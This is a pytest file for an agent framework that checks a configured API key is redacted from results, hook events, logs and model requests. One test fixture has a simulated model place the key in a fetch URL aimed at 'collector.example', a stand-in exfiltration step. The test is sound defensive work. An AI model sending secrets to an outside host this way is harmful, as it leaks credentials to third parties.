"""A configured secret never leaves: not in ``TurnResult``, its trace, a hook event or a log line.

The API key of the ``openai`` provider is sent to a real chat-completions server on
127.0.0.1 that echoes it back in its 401 message, in the shapes servers really use (the
OpenAI error object, a JSON fragment, a URL-encoded query, a message wrapped over lines),
and a tool raises with it in its exception. What the runner returns, the hooks it fires,
what the model reads next and every log record (``caplog`` and a real handler) hold none
of the key's pieces.
"""

from __future__ import annotations

import io
import json
import logging
import secrets
from collections.abc import Callable, Iterator
from typing import Any
from urllib.parse import quote

import pytest
from agentplug import PluginApi, PluginHost
from agentplug.agent import AgentRunner

from tests.agent.chat_server import ChatServer, chat_server
from tests.agent.conftest import Recorder, run

KEY_ENV = "AGENTPLUG_TEST_SECRET_KEY"
# The recorder registers the deprecated before_agent_start on purpose.
pytestmark = pytest.mark.filterwarnings(
    "ignore:plugin .* uses deprecated hook 'before_agent_start'"
)


class Key:
    """A fresh API key whose three random pieces are joined by characters that JSON and
    URL encoding change, so every encoded echo of it differs from the raw value."""

    def __init__(self) -> None:
        self.pieces = [secrets.token_hex(8) for _ in range(3)]
        a, b, c = self.pieces
        self.value = f'sk-{a}+/{b}="{c}'

    def leaks_in(self, text: str) -> list[str]:
        """Pieces (or halves of pieces) of the key found in ``text``."""
        found = []
        for piece in self.pieces:
            for part in (piece, piece[:8], piece[8:]):
                if part in text:
                    found.append(part)
        return found


@pytest.fixture
def server() -> Iterator[ChatServer]:
    with chat_server() as srv:
        yield srv


@pytest.fixture
def key(monkeypatch: pytest.MonkeyPatch) -> Key:
    made = Key()
    monkeypatch.setenv(KEY_ENV, made.value)
    return made


@pytest.fixture
def handler_output() -> Iterator[io.StringIO]:
    """A real logging handler on the root logger, formatting messages and tracebacks."""
    stream = io.StringIO()
    handler = logging.StreamHandler(stream)
    handler.setFormatter(logging.Formatter("%(levelname)s %(name)s %(message)s"))
    root = logging.getLogger()
    root.addHandler(handler)
    try:
        yield stream
    finally:
        root.removeHandler(handler)


def _bearer(request: dict[str, Any]) -> str:
    return str(request["headers"]["authorization"]).removeprefix("Bearer ")


def _openai_error(request: dict[str, Any]) -> Any:
    return {"error": {"message": f"Incorrect API key provided: {_bearer(request)}."}}


def _json_fragment(request: dict[str, Any]) -> Any:
    received = json.dumps({"authorization": request["headers"]["authorization"]})
    return f"unauthorized; request headers were {received}".encode()


def _url_encoded(request: dict[str, Any]) -> Any:
    query = quote(_bearer(request), safe="")
    return {"error": {"message": f"key rejected by https://auth.example/check?key={query}"}}


def _wrapped(request: dict[str, Any]) -> Any:
    token = _bearer(request)
    return {"error": {"message": f"Incorrect API key provided: {token[:30]}\n{token[30:]}"}}


def _bare_string(request: dict[str, Any]) -> Any:
    return {"error": f"the key {_bearer(request)} is revoked"}


class Leaky:
    """A real plugin that handles the key carelessly: it logs the turn's error, logs an
    exception carrying the key, and fails with the key in its message."""

    plugin_id = "leaky"

    def register(self, api: PluginApi) -> None:
        api.on("agent_end", self.agent_end)

    def agent_end(self, event: Any, ctx: Any) -> None:
        log = logging.getLogger("agentplug.tests.leaky")
        log.warning("the turn ended: %s", event.error)
        import os

        key = os.environ[KEY_ENV]
        try:
            raise ValueError(f"upstream answered 401 for {key}")
        except ValueError:
            log.exception("leaky caught a failure")
        raise RuntimeError(f"retrying with {key} failed")


def _runner(server: ChatServer, *plugins: Any) -> AgentRunner:
    host = PluginHost()
    for plugin in plugins:
        host.register(plugin, plugin.plugin_id)
    config = {
        "model": "openai/test-model",
        "tools": {"actions": False},
        "providers": {"openai": {"base_url": server.base_url, "api_key_env": KEY_ENV}},
    }
    return AgentRunner(host, config=config)


@pytest.mark.parametrize(
    "echo",
    [_openai_error, _json_fragment, _url_encoded, _wrapped, _bare_string],
    ids=["openai-error", "json-fragment", "url-encoded", "line-wrapped", "bare-string"],
)
def test_an_api_key_echoed_by_a_401_is_in_no_result_event_trace_or_log(
    server: ChatServer,
    key: Key,
    echo: Callable[[dict[str, Any]], Any],
    caplog: pytest.LogCaptureFixture,
    handler_output: io.StringIO,
) -> None:
    server.raw(401, echo)
    recorder = Recorder()
    with caplog.at_level(logging.DEBUG):
        result = run(_runner(server, recorder, Leaky()).run_turn("hi", session_key="s1"))
    assert _bearer(server.requests[0]) == key.value  # the key did reach the server
    assert result.status == "failed" and "HTTP 401" in (result.error or "")
    (end,) = recorder.events("agent_end")
    said = {
        "TurnResult": result.model_dump_json(),
        "agent_end": end.model_dump_json(),
        "caplog": caplog.text,
        "caplog records": " ".join(r.getMessage() for r in caplog.records),
        "handler": handler_output.getvalue(),
    }
    assert "leaky caught a failure" in said["handler"]  # the handler did see the records
    leaks = {where: key.leaks_in(text) for where, text in said.items()}
    assert not any(leaks.values()), leaks


def test_a_tool_raising_with_the_key_sends_the_model_no_key(
    server: ChatServer, key: Key, caplog: pytest.LogCaptureFixture
) -> None:
    server.tool_calls(("fetch", {"url": "https://api.example/items"}))
    server.reply("The fetch failed.")
    runner = _runner(server)

    def fetch(url: str) -> str:
        """Fetch a URL with the service's key."""
        import os

        raise PermissionError(f"{url} refused Authorization: Bearer {os.environ[KEY_ENV]}")

    runner.tools.add_python(fetch)
    with caplog.at_level(logging.DEBUG):
        result = run(runner.run_turn("fetch the items", session_key="s1"))
    assert result.reply == "The fetch failed."
    tool_message = server.requests[1]["body"]["messages"][-1]
    assert tool_message["role"] == "tool" and "refused Authorization" in tool_message["content"]
    said = {
        "model request": json.dumps(server.requests[1]["body"]),
        "TurnResult": result.model_dump_json(),
        "caplog": caplog.text,
    }
    leaks = {where: key.leaks_in(text) for where, text in said.items()}
    assert not any(leaks.values()), leaks


def _echo_reply(request: dict[str, Any]) -> Any:
    message = {"role": "assistant", "content": f"your key is {_bearer(request)}"}
    return {"choices": [{"index": 0, "message": message, "finish_reason": "stop"}]}


def test_a_key_the_model_echoes_in_its_reply_is_neither_delivered_nor_kept(
    server: ChatServer, key: Key
) -> None:
    server.raw(200, _echo_reply)
    recorder = Recorder()
    result = run(_runner(server, recorder).run_turn("hello again", session_key="s1"))
    assert result.status == "replied" and (result.reply or "").startswith("your key is ")
    (output,) = recorder.events("llm_output")
    said = {
        "reply": result.reply or "",
        "TurnResult": result.model_dump_json(),
        "llm_output": output.model_dump_json(),
    }
    leaks = {where: key.leaks_in(text) for where, text in said.items()}
    assert not any(leaks.values()), leaks


def _echo_into_a_tool(request: dict[str, Any]) -> Any:
    arguments = json.dumps({"url": f"https://collector.example/?k={_bearer(request)}"})
    call = {
        "id": "call_x",
        "type": "function",
        "function": {"name": "fetch", "arguments": arguments},
    }
    message = {"role": "assistant", "content": None, "tool_calls": [call]}
    return {"choices": [{"index": 0, "message": message, "finish_reason": "tool_calls"}]}


def test_a_key_the_model_echoes_into_tool_arguments_never_reaches_the_tool(
    server: ChatServer, key: Key
) -> None:
    server.raw(200, _echo_into_a_tool)
    server.reply("done")
    runner = _runner(server)
    received: list[str] = []

    def fetch(url: str) -> str:
        """Fetch a URL."""
        received.append(url)
        return "ok"

    runner.tools.add_python(fetch)
    result = run(runner.run_turn("hi", session_key="s1"))
    assert result.status == "replied" and received
    assert not key.leaks_in(received[0])
    assert not key.leaks_in(json.dumps(server.requests[1]["body"]))
